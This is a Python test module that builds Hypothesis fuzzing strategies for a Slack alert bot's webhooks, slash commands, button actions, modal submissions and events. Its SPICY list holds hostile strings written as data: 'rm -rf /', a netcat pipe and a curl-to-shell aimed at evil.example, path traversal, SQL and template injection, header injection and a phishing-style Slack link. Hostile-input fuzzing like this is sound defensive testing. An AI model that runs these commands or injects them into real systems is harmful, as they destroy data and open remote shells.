"""Hypothesis strategies for hostile input: alert webhooks built from the payload models
(bot/webhooks/payloads.py, bot/usecases/alert_model.py) and mutated, and Slack payloads (slash
commands, block_actions with profbot's action ids, view_submission, events)."""

from __future__ import annotations

import json
import time
from datetime import UTC, timedelta, timezone
from typing import Any
from urllib.parse import urlencode

from hypothesis import strategies as st

from bot.slack import action_ids
from bot.usecases.alert_model import Alert
from bot.webhooks.payloads import WebhookIn
from tests.rig.slack_requests import OPERATOR_2, STRANGER, command_payload
from tests.rig.slack_standin import DEFAULT_CHANNEL, TEAM_ID

# What attackers and broken senders put in strings.
SPICY = [
    "; rm -rf /", "$(reboot)", "`id`", "| nc evil.example 4444", "&& curl evil.example|sh", "../../../etc/passwd",
    "<!channel> <https://evil.example|reset your SSO>", "<@U0OPERATOR>", "*bold* _it_ ~s~", "{{7*7}}", "%s%n%x",
    "\u202eevil", "\x00\x01\x7f", "\ud800", "e\u0301\u0301\u0301", "🔥" * 50, "null", "[]", "{}", "true", "-1",
    "1e999", "NaN", "restart pyroscope", "confirm", "purge", "DROP TABLE requests;--", "\r\nX-Injected: 1",
]  # fmt: skip
texts = st.one_of(
    st.text(max_size=60),
    st.sampled_from(SPICY),
    st.integers(3_000, 200_000).map(lambda n: "x" * n),  # huge
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=5).map(lambda s: s * 2000),
)
junk: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | texts,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=12,
)
label_names = st.one_of(
    st.from_regex(r"\A[a-zA-Z_][a-zA-Z0-9_]{0,20}\Z"), st.text(max_size=20), st.sampled_from(["alertname", "severity"])
)
# Times as senders write them, zone or none (naive and aware mixed in one group), and not times at all.
times = st.one_of(
    st.datetimes(timezones=st.none() | st.just(UTC) | st.integers(-14 * 60, 14 * 60).map(
        lambda m: timezone(timedelta(minutes=m)))).map(lambda d: d.isoformat()),
    st.sampled_from(["0001-01-01T00:00:00Z", "2026-11-25T17:15:01.904Z", "2026-11-25T17:15:01", "yesterday", ""]),
    st.integers(-(2**40), 2**40),
    junk,
)  # fmt: skip
urls = st.one_of(
    st.sampled_from(["http://127.0.0.1:19090/graph?g0.expr=up", "javascript:alert(1)", "https://evil.example|x>"]),
    texts,
)
string_maps = st.dictionaries(label_names, texts, max_size=6)

ALERT_FIELDS: dict[str, st.SearchStrategy[Any]] = {
    "status": st.sampled_from(["firing", "resolved"]),
    "labels": string_maps.map(lambda d: {"alertname": "FuzzAlert", **d}),
    "annotations": string_maps,
    "startsAt": times,
    "endsAt": times,
    "generatorURL": urls,
    "fingerprint": st.text(max_size=40) | st.text(min_size=190, max_size=260),
    "silenceURL": urls,
    "dashboardURL": urls,
    "panelURL": urls,
}
GROUP_FIELDS: dict[str, st.SearchStrategy[Any]] = {
    "version": st.sampled_from(["4", "1", "3", ""]),
    "groupKey": st.text(min_size=1, max_size=80) | st.sampled_from(["", "x" * 2001]),
    "status": st.sampled_from(["firing", "resolved"]),
    "receiver": texts,
    "alerts": st.lists(st.fixed_dictionaries(ALERT_FIELDS), min_size=1, max_size=4),
    "groupLabels": string_maps,
    "commonLabels": string_maps,
    "commonAnnotations": string_maps,
    "externalURL": urls,
    "truncatedAlerts": st.integers(-5, 2**70),
    "title": texts,
    "message": texts,
}
# Every field of the models is generated: a field added to them and not here fails loudly.
assert set(ALERT_FIELDS) == set(Alert.model_fields), set(Alert.model_fields) ^ set(ALERT_FIELDS)
assert set(GROUP_FIELDS) == set(WebhookIn.model_fields), set(WebhookIn.model_fields) ^ set(GROUP_FIELDS)


@st.composite
def mutated(draw: st.DrawFn, base: dict[str, Any], fields: list[str]) -> dict[str, Any]:
    """``base`` with a few of the model's fields dropped, of the wrong type, or junk added."""
    payload = dict(base)
    for _ in range(draw(st.integers(0, 3))):
        name = draw(st.sampled_from(fields))
        how = draw(st.sampled_from(["drop", "wrong type", "extra"]))
        if how == "drop":
            payload.pop(name, None)
        elif how == "wrong type":
            payload[name] = draw(junk)
        else:
            payload[draw(st.text(max_size=12))] = draw(junk)
    return payload


@st.composite
def webhook_payloads(draw: st.DrawFn) -> Any:
    group = draw(st.fixed_dictionaries(GROUP_FIELDS))
    group["alerts"] = [draw(mutated(a, sorted(ALERT_FIELDS))) for a in group["alerts"]]
    if draw(st.booleans()):  # half are otherwise well formed: they reach the use case
        group = draw(mutated(group, sorted(GROUP_FIELDS)))
    return group


@st.composite
def webhook_bodies(draw: st.DrawFn) -> bytes:
    """A webhook body: JSON from the models, mutated; cut short; not JSON; not UTF-8."""
    payload = draw(webhook_payloads())
    body = json.dumps(payload, allow_nan=True).encode("utf-8", "surrogatepass")
    how = draw(st.sampled_from(["as is"] * 6 + ["cut", "not an object", "bytes"]))
    if how == "cut":
        return body[: draw(st.integers(0, max(0, len(body) - 1)))]
    if how == "not an object":
        return json.dumps(draw(junk)).encode("utf-8", "surrogatepass")
    if how == "bytes":
        return draw(st.binary(max_size=200))
    return body


# ------------------------------------------------------------------ Slack


def action_ids_and_values(known_ids: list[str]) -> tuple[st.SearchStrategy[str], st.SearchStrategy[Any]]:
    ids = st.one_of(
        st.sampled_from([*action_ids.DECISIONS, action_ids.OPEN_LINK, action_ids.DESTROY_MODAL,
                         action_ids.remediation_action_id("INC-PROF-001", "restart"),
                         action_ids.remediation_action_id("INC-PROF-004", "purge"), "home:refresh"]),
        st.text(max_size=40),
    )  # fmt: skip
    values = st.one_of(
        st.sampled_from(known_ids), st.from_regex(r"\A[0-9a-f]{32}\Z"), texts, st.sampled_from(SPICY), junk
    )
    return ids, values


def signed_users() -> st.SearchStrategy[Any]:
    """People who may not run the seeded requests: someone from outside, an operator who is not
    their requester (nor an approver), made-up ids, junk."""
    return st.one_of(st.sampled_from([STRANGER, OPERATOR_2]), st.from_regex(r"\AU[A-Z0-9]{8,10}\Z"), junk)


@st.composite
def block_actions(draw: st.DrawFn, users: st.SearchStrategy[Any], known_ids: list[str], response_url: str) -> Any:
    ids, values = action_ids_and_values(known_ids)
    payload: dict[str, Any] = {
        "type": "block_actions",
        "user": {"id": draw(users)},
        "team": {"id": TEAM_ID},
        "channel": {"id": draw(st.sampled_from([DEFAULT_CHANNEL, "C0OTHER"]) | texts)},
        "message": {"ts": draw(st.sampled_from(["1764000000.000100"]) | texts)},
        "response_url": draw(st.sampled_from([response_url, "not a url", "http://127.0.0.1:1/x"])),
        "trigger_id": f"{time.time():.0f}.42.x",
        "actions": [
            {"type": draw(st.sampled_from(["button", "static_select"]) | texts), "action_id": draw(ids),
             "value": draw(values), "block_id": draw(st.text(max_size=10)), "action_ts": str(time.time())}
            for _ in range(draw(st.integers(0, 3)))
        ],
    }  # fmt: skip
    return draw(mutated(payload, sorted(payload))) if draw(st.booleans()) else payload


@st.composite
def view_submissions(draw: st.DrawFn, users: st.SearchStrategy[Any], known_ids: list[str]) -> Any:
    _, values = action_ids_and_values(known_ids)
    metadata = draw(st.one_of(
        st.builds(lambda o, c, t: json.dumps({"offer": o, "channel": c, "thread": t}), values, texts, junk),
        texts,
    ))  # fmt: skip
    typed = draw(st.sampled_from(["pyroscope_data", ""]) | texts)
    payload: dict[str, Any] = {
        "type": "view_submission",
        "team": {"id": TEAM_ID},
        "user": {"id": draw(users)},
        "view": {
            "id": "V0MODAL", "type": "modal",
            "callback_id": draw(st.sampled_from([action_ids.DESTROY_MODAL]) | texts),
            "private_metadata": metadata,
            "state": {"values": {action_ids.TYPED_BLOCK: {action_ids.TYPED_INPUT: {"type": "plain_text_input",
                                                                                   "value": typed}}}},
        },
    }  # fmt: skip
    return draw(mutated(payload, sorted(payload))) if draw(st.booleans()) else payload


@st.composite
def events(draw: st.DrawFn, users: st.SearchStrategy[Any]) -> Any:
    kind = draw(st.sampled_from(["app_home_opened", "message", "app_mention", "member_joined_channel"]) | texts)
    payload = {
        "type": draw(st.sampled_from(["event_callback", "url_verification"]) | texts),
        "team_id": TEAM_ID, "api_app_id": "A0PROFBOT", "challenge": draw(texts),
        "event": {"type": kind, "user": draw(users), "channel": DEFAULT_CHANNEL, "tab": "home", "text": draw(texts),
                  "event_ts": f"{time.time():.6f}"},
        "event_id": draw(st.text(max_size=12)), "event_time": int(time.time()),
    }  # fmt: skip
    return draw(mutated(payload, sorted(payload))) if draw(st.booleans()) else payload


COMMAND_WORDS = ["help", "health", "runners", "restart", "confirm", "approve", "cancel", "reject", "request",
                 "diagnose", "purge", "audit", "ui", "freshness", "runbook", "upgrade", "rollback"]  # fmt: skip


@st.composite
def command_texts(draw: st.DrawFn, known_ids: list[str]) -> str:
    words = [draw(st.sampled_from(COMMAND_WORDS) | texts)]
    for _ in range(draw(st.integers(0, 3))):
        words.append(draw(st.sampled_from(known_ids) | st.sampled_from(SPICY) | texts | st.just("pyroscope")))
    return " ".join(words)


@st.composite
def slash_commands(draw: st.DrawFn, users: st.SearchStrategy[Any], known_ids: list[str], response_url: str) -> str:
    """A slash command, form-encoded as Slack sends it."""
    fields: dict[str, Any] = command_payload(
        draw(command_texts(known_ids)), command=draw(st.sampled_from(["/prof", "/other"])), user="U0",
        response_url=draw(st.sampled_from([response_url, "not a url"])),
    )  # fmt: skip
    fields["user_id"] = draw(users)
    if draw(st.booleans()):
        fields = draw(mutated(fields, sorted(fields)))
    fields = {k: v if isinstance(v, str) else json.dumps(v) for k, v in fields.items()}
    return urlencode(fields, errors="surrogatepass")  # a lone surrogate goes as the bytes it would be


@st.composite
def slack_requests(draw: st.DrawFn, users: st.SearchStrategy[Any], known_ids: list[str], response_url: str) -> Any:
    """(body, content type): any kind of request Slack sends to /slack/events."""
    kind = draw(st.sampled_from(["command", "block_actions", "view_submission", "event"]))
    if kind == "command":
        return draw(slash_commands(users, known_ids, response_url)), "application/x-www-form-urlencoded"
    if kind == "event":
        return json.dumps(draw(events(users)), allow_nan=True), "application/json"
    payload = draw(
        block_actions(users, known_ids, response_url) if kind == "block_actions" else view_submissions(users, known_ids)
    )
    return urlencode({"payload": json.dumps(payload, allow_nan=True)}), "application/x-www-form-urlencoded"
